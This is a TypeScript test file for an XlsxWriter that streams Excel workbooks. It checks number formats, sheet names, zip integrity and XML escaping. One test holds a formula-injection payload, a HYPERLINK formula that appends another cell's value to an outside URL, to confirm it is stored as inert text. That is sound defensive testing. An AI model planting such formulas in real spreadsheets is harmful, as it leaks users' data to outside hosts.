import { PassThrough } from 'node:stream';
import { crc32, inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decimal, EXACT, INTEGER, percentColumn, TEXT, XlsxWriter } from './workbook.js';

async function bytesOf(write: (xlsx: XlsxWriter) => void): Promise<Buffer<ArrayBuffer>> {
  const stream = new PassThrough();
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  const xlsx = new XlsxWriter(stream);
  write(xlsx);
  await xlsx.commit();
  return Buffer.concat(chunks);
}

/**
 * The zip's entries by name, read the strict way: from the central directory, each entry's local header
 * and data descriptor checked against it, its data inflated by zlib and its CRC-32 and size compared.
 */
function unzip(bytes: Buffer): Map<string, string> {
  const end = bytes.length - 22;
  expect(bytes.readUInt32LE(end)).toBe(0x06054b50);
  const count = bytes.readUInt16LE(end + 10);
  let at = bytes.readUInt32LE(end + 16);
  expect(at + bytes.readUInt32LE(end + 12)).toBe(end);
  const entries = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    expect(bytes.readUInt32LE(at)).toBe(0x02014b50);
    const crc = bytes.readUInt32LE(at + 16);
    const compressed = bytes.readUInt32LE(at + 20);
    const size = bytes.readUInt32LE(at + 24);
    const nameLength = bytes.readUInt16LE(at + 28);
    const offset = bytes.readUInt32LE(at + 42);
    const name = bytes.toString('utf8', at + 46, at + 46 + nameLength);
    at += 46 + nameLength;
    expect(bytes.readUInt32LE(offset)).toBe(0x04034b50);
    expect(bytes.toString('utf8', offset + 30, offset + 30 + nameLength)).toBe(name);
    const start = offset + 30 + nameLength + bytes.readUInt16LE(offset + 28);
    const descriptor = start + compressed;
    expect([...[0, 4, 8, 12].map((k) => bytes.readUInt32LE(descriptor + k))]).toEqual([
      0x08074b50,
      crc,
      compressed,
      size,
    ]);
    const data = inflateRawSync(bytes.subarray(start, descriptor));
    expect(data.length).toBe(size);
    expect(crc32(data)).toBe(crc);
    entries.set(name, data.toString('utf8'));
  }
  return entries;
}

async function readBack(bytes: Buffer<ArrayBuffer>): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength));
  return workbook;
}

async function written(write: (xlsx: XlsxWriter) => void): Promise<ExcelJS.Workbook> {
  return readBack(await bytesOf(write));
}

describe('XlsxWriter', () => {
  it('writes figures as numbers with the column’s format, text as text', async () => {
    const workbook = await written((xlsx) => {
      const sheet = xlsx.sheet('表', [
        { header: '名称', width: 10, type: TEXT },
        { header: '值', width: 10, type: decimal(4) },
        { header: '家数', width: 6, type: INTEGER },
        { header: '占比', width: 8, type: percentColumn(2) },
        { header: '面积', width: 8, type: EXACT },
      ]);
      sheet.row(['0012', '12.3400', 3, '66.67', '2.6']);
      sheet.row(['乙', '不适用', 0, null, '1234567.891234']);
      sheet.row(['合计', '-0.0001', 3, '100.00', '1234570.491234'], 'total');
      sheet.commit();
    });
    const sheet = workbook.getWorksheet('表');
    const row = sheet?.getRow(2);
    // A code of digits stays text; figures are numbers that print with the method's decimals.
    expect(row?.getCell(1).value).toBe('0012');
    expect(row?.getCell(2).value).toBe(12.34);
    expect(row?.getCell(2).numFmt).toBe('0.0000');
    expect(row?.getCell(3).value).toBe(3);
    // 66.67% is stored as the fraction 0.6667, formatted as a percentage.
    expect(row?.getCell(4).value).toBe(0.6667);
    expect(row?.getCell(4).numFmt).toBe('0.00%');
    expect(row?.getCell(5).value).toBe(2.6);
    expect(sheet?.getRow(3).getCell(2).value).toBe('不适用');
    expect(sheet?.getRow(3).getCell(4).value).toBeNull();
    expect(sheet?.getRow(3).getCell(5).value).toBe(1234567.891234);
    expect(sheet?.getRow(4).getCell(1).font.bold).toBe(true);
    expect(sheet?.getRow(4).getCell(2).value).toBe(-0.0001);
  });

  it('gives each sheet a unique name Excel accepts', async () => {
    const workbook = await written((xlsx) => {
      for (const name of ['a/b:c', 'A/B:C', 'x'.repeat(40)])
        xlsx.sheet(name, [{ header: 'h', width: 5, type: TEXT }]).commit();
    });
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['a_b_c', 'A_B_C(2)', 'x'.repeat(31)]);
  });

  it('writes a name that looks like a formula as a string cell, in text and figure columns alike', async () => {
    const hostile = '=HYPERLINK("http://x"&C2,"y")';
    const workbook = await written((xlsx) => {
      const sheet = xlsx.sheet('表', [
        { header: '名称', width: 10, type: TEXT },
        { header: '值', width: 10, type: decimal(2) },
      ]);
      sheet.row([hostile, '+SUM(1,2)']);
      sheet.row(['@A1', '-1+1'], 'total');
      sheet.commit();
    });
    const sheet = workbook.getWorksheet('表');
    const cells = [sheet?.getCell('A2'), sheet?.getCell('B2'), sheet?.getCell('A3'), sheet?.getCell('B3')];
    expect(cells.map((cell) => cell?.value)).toEqual([hostile, '+SUM(1,2)', '@A1', '-1+1']);
    for (const cell of cells) {
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.formula).toBeUndefined();
    }
  });
});

describe('XlsxWriter, the file itself', () => {
  it('writes a sound zip, a large sheet included (many deflated slices in one entry)', async () => {
    const names = Array.from({ length: 6000 }, (_, i) => `企业${String(i)}有限公司`.repeat(1 + (i % 7)));
    const bytes = await bytesOf((xlsx) => {
      const sheet = xlsx.sheet('大表', [
        { header: '名称', width: 30, type: TEXT },
        { header: '值', width: 10, type: decimal(4) },
      ]);
      names.forEach((name, i) => {
        sheet.row([name, `${String(i)}.5000`]);
      });
      sheet.commit();
      xlsx.sheet('小表', [{ header: 'h', width: 5, type: TEXT }]).commit();
    });
    const parts = unzip(bytes);
    expect([...parts.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'docProps/app.xml',
      'docProps/core.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ]);
    // Bigger than one 256 KiB slice, so its deflate stream is several slices joined.
    expect(Buffer.byteLength(parts.get('xl/worksheets/sheet1.xml') ?? '')).toBeGreaterThan(1024 * 1024);
    const sheet = (await readBack(bytes)).getWorksheet('大表');
    expect(sheet?.rowCount).toBe(1 + names.length);
    expect(sheet?.getCell('A6001').value).toBe(names[5999]);
    expect(sheet?.getCell('B6001').value).toBe(5999.5);
  });

  it('writes each figure as the shortest text of the double nearest to it, as String(Number()) does', async () => {
    const digits = fc.stringMatching(/^[0-9]{1,12}$/);
    const decimalString = fc
      .tuple(fc.boolean(), fc.stringMatching(/^(0|[1-9][0-9]{0,17})$/), fc.option(digits, { nil: undefined }))
      .map(
        ([negative, whole, fraction]) =>
          `${negative ? '-' : ''}${whole}${fraction === undefined ? '' : `.${fraction}`}`,
      );
    const values = fc.sample(decimalString, { numRuns: 2000, seed: 17 });
    values.push(
      '0.0000001',
      '-0.0000001000',
      '0.000001',
      '-0.0000',
      '123456789012345.6',
      '1.000000000000000001',
    );
    const bytes = await bytesOf((xlsx) => {
      const sheet = xlsx.sheet('数', [{ header: '值', width: 10, type: EXACT }]);
      for (const value of values) sheet.row([value]);
      sheet.commit();
    });
    const xml = unzip(bytes).get('xl/worksheets/sheet1.xml') ?? '';
    const written = [...xml.matchAll(/<v>([^<]*)<\/v>/g)].map((match) => match[1]).slice(1);
    expect(written).toEqual(values.map((value) => String(Number(value))));
  });

  it('leaves out the characters XML cannot hold and escapes markup, so the file still opens', async () => {
    const text = 'a\u0001b\u0008c\u000Bd\u001Fe\u007Ff\uFFFEg <&>"\' 制\t表\n';
    const workbook = await written((xlsx) => {
      const sheet = xlsx.sheet('表<&>', [{ header: '名称<&>', width: 10, type: TEXT }], {
        title: '标题 & <x>',
      });
      sheet.row([text]);
      sheet.commit();
    });
    const sheet = workbook.getWorksheet('表<&>');
    expect(sheet?.getCell('A1').value).toBe('标题 & <x>');
    expect(sheet?.getCell('A2').value).toBe('名称<&>');
    expect(sheet?.getCell('A3').value).toBe('abcdefg <&>"\' 制\t表\n');
  });
});
